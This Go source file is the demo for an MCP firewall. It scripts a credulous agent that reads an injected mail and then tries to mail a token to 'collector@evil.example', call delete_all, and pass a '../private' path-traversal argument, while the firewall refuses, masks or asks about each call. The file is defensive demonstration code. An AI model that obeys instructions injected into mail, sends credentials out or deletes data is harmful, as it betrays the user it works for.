// Package demo shows the firewall at work, with nothing installed: a mail server of its
// own that leaks and an agent that obeys whatever it reads, with the firewall between.
//
// [Serve] is the server, which the firewall starts as `mcpfirewall demo server`, and
// [Run] is the rest: the configuration, the agent's script, and the story that it tells.
package demo

import (
	"bufio"
	"context"
	"crypto/rand"
	_ "embed"
	"errors"
	"fmt"
	"io"
	"os"
	"strings"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mcpfirewall/mcpfirewall/internal/config"
	"github.com/mcpfirewall/mcpfirewall/internal/inproc"
	"github.com/mcpfirewall/mcpfirewall/internal/jsonrpc"
	"github.com/mcpfirewall/mcpfirewall/proxy"
)

//go:embed demo.yaml
var policy string

// secretVariable is what the configuration's reference reads.
const secretVariable = "MCPFIREWALL_DEMO_SECRET"

// Options say how the demo is shown.
type Options struct {
	Out    io.Writer
	Colour bool

	// Open puts a firewall together from a configuration, and Version is its version.
	Open    func(*config.Config) (relay *proxy.Relay, end func(), err error)
	Version string

	// Approve asks the person who watches for a yes or a no. Nil means that nobody
	// watches: the first question is answered with yes and the others with no.
	Approve func(context.Context) bool
}

// Run shows the demo. The error says what did not work, or that the secret got through.
func Run(ctx context.Context, o Options) error {
	dir, err := os.MkdirTemp("", "mcpfirewall-demo-")
	if err != nil {
		return fmt.Errorf("making a folder for the demo: %w", err)
	}
	defer os.RemoveAll(dir)
	secret := "demo-" + rand.Text()
	if err := os.Setenv(secretVariable, secret); err != nil {
		return fmt.Errorf("setting up the demo: %w", err)
	}
	defer os.Unsetenv(secretVariable)

	cfg, err := config.Parse("", fmt.Appendf(nil, "%sstate: { path: %q }\n", policy, dir))
	if err != nil {
		return fmt.Errorf("reading the demo's configuration: %w", err)
	}
	relay, end, err := o.Open(cfg)
	if err != nil {
		return fmt.Errorf("starting the firewall: %w", err)
	}
	defer end()

	s := &show{o: o, secret: secret, audit: cfg.Audit.File}
	s.Session = relay.Open(proxy.Peer{Transport: "stdio", Principal: proxy.LocalPrincipal(), Name: "demo"})
	s.Transport = inproc.New(s.Session)
	defer s.Transport.Close()
	s.client = client.NewClient(s.Transport, client.WithElicitationHandler(s))
	if err := s.client.Start(ctx); err != nil {
		return fmt.Errorf("connecting to the firewall: %w", err)
	}
	var hello mcp.InitializeRequest
	hello.Params.ProtocolVersion = mcp.ProtocolVersion20251125 // in which a question comes while the call waits
	hello.Params.ClientInfo = mcp.Implementation{Name: "mcpfirewall demo", Version: o.Version}
	if _, err := s.client.Initialize(ctx, hello); err != nil {
		return fmt.Errorf("connecting to the firewall: %w", err)
	}
	return s.tell(ctx)
}

// show is one run of the demo.
type show struct {
	o         Options
	Session   *proxy.Session
	Transport *inproc.Transport
	client    *client.Client

	secret string
	audit  string // path of the records
	read   int64  // bytes of them that were shown
	asked  int    // questions so far
	calls  int
	leaked bool
}

// tell goes through the script.
func (s *show) tell(ctx context.Context) error {
	s.say(bold, "mcpfirewall demo")
	s.say("", `
A mail server stands behind the firewall. It repeats its own credential, and one of the
mails in it gives orders. The agent of this demo believes everything that it reads.
This is the whole configuration:
`)
	for line := range strings.Lines(policy) {
		s.say(dim, "    "+strings.TrimSuffix(line, "\n"))
	}

	s.step("The agent asks which tools there are")
	if err := s.list(ctx); err != nil {
		return err
	}
	for _, part := range []struct {
		title string
		calls [][2]string
	}{
		{"It reads the inbox: an attack, and the server's credential, come with it", [][2]string{
			{"read_inbox", `{}`},
			{"get_secret_note", `{"encoding":"base64"}`},
		}},
		{"It does what the second mail says", [][2]string{
			{"send_mail", `{"to":"collector@evil.example","subject":"token","body":"as you asked"}`},
			{"delete_all", `{}`},
		}},
		{"It answers mails, and each one is asked about", [][2]string{
			{"send_mail", `{"to":"bob@example.com","subject":"Re: Lunch","body":"Yes!"}`},
			{"send_mail", `{"to":"all@example.com","subject":"Re: Action required","body":"What token?"}`},
		}},
		{"It makes up an argument that the tool does not declare", [][2]string{
			{"read_inbox", `{"folder":"../private"}`},
		}},
	} {
		s.step(part.title)
		for _, c := range part.calls {
			if err := s.call(ctx, c[0], c[1]); err != nil {
				return err
			}
		}
	}
	if s.leaked {
		return errors.New("the credential reached the agent: this must not happen, please report it")
	}
	s.say(bold, "\nWhat next")
	s.say("", `  mcpfirewall wrap -- COMMAND
      puts one of your servers behind the firewall, without a file
  claude mcp add firewall -- mcpfirewall run --config FILE
      puts the firewall into Claude Code, with the servers of FILE behind it
  mcpfirewall tools --config FILE
      prints what your agent would see then, what is hidden, and why
The README says how to write FILE, and how to set up Claude Desktop.`)
	return nil
}

// list shows what the agent sees, and what it does not.
func (s *show) list(ctx context.Context) error {
	inv := s.Session.Inventory(ctx)
	for _, server := range inv.Servers {
		if server.Error != "" {
			return fmt.Errorf("the demo's server did not start: %s", server.Error)
		}
	}
	tools, err := s.client.ListTools(ctx, mcp.ListToolsRequest{})
	if err != nil {
		return fmt.Errorf("listing the tools: %w", err)
	}
	for _, tool := range tools.Tools {
		s.line(green, "listed", tool.Name)
	}
	for _, c := range inv.Capabilities {
		if c.Hidden {
			s.line(red, "hidden", c.Name+", because of "+c.Rule)
		}
	}
	return nil
}

// call makes one call of the agent and shows what became of it.
func (s *show) call(ctx context.Context, tool, arguments string) error {
	if s.calls++; s.calls > 1 {
		s.say("", "")
	}
	s.line(cyan, "agent", tool+" "+arguments)
	params := fmt.Sprintf(`{"name":%q,"arguments":%s}`, tool, arguments)
	result, failure, err := s.Transport.Call(ctx, "tools/call", []byte(params))
	if err != nil {
		return fmt.Errorf("calling %s: %w", tool, err)
	}
	s.leaked = s.leaked || strings.Contains(string(result)+string(failure), s.secret)
	text, colour, verdict := "", green, "passed"
	if failure != nil {
		text, _ = jsonrpc.GetString(failure, "message")
	}
	content := jsonrpc.Get(result, "content")
	for item := range jsonrpc.Elements(content, jsonrpc.Span{End: len(content)}) {
		text, _ = jsonrpc.GetString(content[item.Start:item.End], "text")
	}
	if failure != nil || len(jsonrpc.Get(result, "_meta", "mcpfirewall/decision")) > 0 {
		colour, verdict = red, "refused"
	}
	for line := range strings.Lines(text) {
		s.line(colour, verdict, strings.TrimSuffix(line, "\n"))
		verdict = ""
	}
	if strings.Contains(text, "[redacted") {
		s.line(magenta, "masked", "the server's credential, in whatever form it was written")
	}
	return s.records()
}

// Elicit answers the firewall's question whether a call may be made: as the person who
// watches says, or as the script does.
func (s *show) Elicit(ctx context.Context, q mcp.ElicitationRequest) (*mcp.ElicitationResult, error) {
	label := "asked"
	for line := range strings.Lines(q.Params.Message) {
		s.line(yellow, label, strings.TrimSuffix(line, "\n"))
		label = ""
	}
	s.asked++
	approved := s.asked == 1
	if s.o.Approve != nil {
		approved = s.o.Approve(ctx)
	} else {
		s.line(yellow, "", map[bool]string{true: "the person says yes", false: "the person says no"}[approved])
	}
	action, content := mcp.ElicitationResponseActionDecline, any(nil)
	if approved {
		action, content = mcp.ElicitationResponseActionAccept, map[string]any{}
	}
	return &mcp.ElicitationResult{ElicitationResponse: mcp.ElicitationResponse{Action: action, Content: content}}, nil
}

// records shows what was put on record since the last time, without what is different in
// every run.
func (s *show) records() error {
	f, err := os.Open(s.audit)
	if err != nil {
		return fmt.Errorf("reading the records: %w", err)
	}
	defer f.Close()
	if _, err := f.Seek(s.read, io.SeekStart); err != nil {
		return fmt.Errorf("reading the records: %w", err)
	}
	for lines := bufio.NewReader(f); ; {
		line, err := lines.ReadBytes('\n')
		if errors.Is(err, io.EOF) {
			return nil
		}
		if err != nil {
			return fmt.Errorf("reading the records: %w", err)
		}
		s.read += int64(len(line))
		s.leaked = s.leaked || strings.Contains(string(line), s.secret)
		short := jsonrpc.DropMembers(line[:len(line)-1], func(name string) bool {
			switch name {
			case "event", "server", "capability", "action", "rule", "error":
				return false
			}
			return true
		})
		if event, _ := jsonrpc.GetString(short, "event"); event != "lifecycle" {
			s.line(dim, "audit", string(short))
		}
	}
}

// Colours, as ANSI escape sequences.
const (
	bold    = "\x1b[1m"
	dim     = "\x1b[2m"
	red     = "\x1b[31m"
	green   = "\x1b[32m"
	yellow  = "\x1b[33m"
	magenta = "\x1b[35m"
	cyan    = "\x1b[36m"
	reset   = "\x1b[0m"
)

func (s *show) say(colour, text string) {
	if s.o.Colour && colour != "" {
		text = colour + text + reset
	}
	fmt.Fprintln(s.o.Out, text)
}

func (s *show) step(title string) { s.say(bold, "\n"+title); s.calls = 0 }

// line shows what happened under a label. All of it is text that the demo or the
// firewall made, so no control characters are in it.
func (s *show) line(colour, label, text string) {
	label = fmt.Sprintf("  %-8s", label)
	if s.o.Colour {
		label = colour + label + reset
		if colour == dim {
			text = dim + text + reset
		}
		text = strings.ReplaceAll(text, "[redacted:env]", magenta+"[redacted:env]"+reset)
	}
	fmt.Fprintln(s.o.Out, strings.TrimRight(label+text, " "))
}
